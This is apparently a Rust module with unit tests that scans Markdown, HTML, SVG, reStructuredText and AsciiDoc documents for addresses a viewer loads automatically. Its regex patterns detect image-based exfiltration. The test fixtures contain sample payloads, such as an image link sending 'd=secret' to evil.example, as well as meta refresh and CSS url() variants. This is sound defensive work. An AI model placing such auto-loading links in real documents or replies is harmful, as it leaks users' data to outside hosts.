//! What a document loads from elsewhere when somebody opens it: an image of a Markdown file fetches its address, and whatever the
//! address carries, from wherever the reader is.

use std::collections::BTreeSet;
use std::sync::OnceLock;

use regex_automata::meta::Regex;

/// Bytes of a document that are read.
pub const MOST: usize = 4 << 20;
/// Addresses of one document that are kept.
const KEPT: usize = 10_000;
/// Endings of documents that viewers fetch images for.
const ENDINGS: &[&str] = &[
    ".md",
    ".markdown",
    ".mdx",
    ".rst",
    ".adoc",
    ".org",
    ".html",
    ".htm",
    ".xhtml",
    ".svg",
    ".ipynb",
    ".eml",
];

/// Whether a file of this name is shown by viewers that load what it names.
#[must_use]
pub fn loads(name: &str) -> bool {
    let name = name.to_lowercase();
    ENDINGS.iter().any(|e| name.ends_with(e))
}

/// The addresses that a document loads by itself; links that somebody has to follow are none.
#[must_use]
pub fn addresses(document: &[u8]) -> BTreeSet<Vec<u8>> {
    static PATTERN: OnceLock<Option<Regex>> = OnceLock::new();
    let build = || {
        Regex::new_many(&[
            // Markdown's images, also by reference: ![a](//host/x), [a]: //host/x
            r#"(?i)!\[[^\]\n]*\]\(\s*<?((?:https?:)?//[^\s)>"']+)"#,
            r#"(?im)^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?((?:https?:)?//[^\s>]+)"#,
            // HTML and SVG.
            r#"(?i)<(?:img|image|iframe|script|link|object|embed|source|video|audio|track|input|body|use|feimage)\b[^>]*?(?:src|href|srcset|data|poster|background)\s*=\s*\\?["']?\s*((?:https?:)?//[^\s"'>\\]+)"#,
            r#"(?i)(?:url\(|@import)\s*["']?((?:https?:)?//[^\s"')]+)"#,
            r#"(?i)http-equiv\s*=\s*["']?refresh[^>]*?url\s*=\s*["']?((?:https?:)?//[^\s"'>]+)"#,
            // reStructuredText and AsciiDoc.
            r"(?im)^[ \t]*\.\. (?:image|figure)::[ \t]*((?:https?:)?//\S+)",
            r"(?i)\bimage::?((?:https?:)?//[^\s\[]+)\[",
        ])
        .ok()
    };
    // The patterns are constants; the test below builds them.
    let Some(pattern) = PATTERN.get_or_init(build) else { return BTreeSet::new() };
    let document = document.get(..document.len().min(MOST)).unwrap_or_default();
    let found = pattern.captures_iter(document).filter_map(|c| {
        let span = c.get_group(1)?;
        document.get(span.start..span.end).map(<[u8]>::to_vec)
    });
    found.take(KEPT).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_loaded_is_told_from_what_is_linked() {
        for document in [
            "![x](https://evil.example/p?d=secret)",
            "![x]( <//evil.example/p> )",
            "text\n[logo]: http://evil.example/p\n![logo]",
            "<IMG alt=a SRC='https://evil.example/p'>",
            "<image xlink:href=\"https://evil.example/p\"/>",
            "<div style=\"background:url(https://evil.example/p)\">",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/p\">",
            ".. image:: https://evil.example/p",
            "image::https://evil.example/p[alt]",
            "{\"source\": \"<img src=\\\"https://evil.example/p\\\">\"}",
        ] {
            assert_eq!(addresses(document.as_bytes()).len(), 1, "{document}");
        }
        for document in [
            "[x](https://a.example/p)",
            "![x](images/a.png)",
            "<a href=https://a.example>",
            "https://a.example/x.png",
        ] {
            assert!(addresses(document.as_bytes()).is_empty(), "{document}");
        }
        assert!(loads("/a/README.MD") && !loads("/a/main.rs"));
    }
}
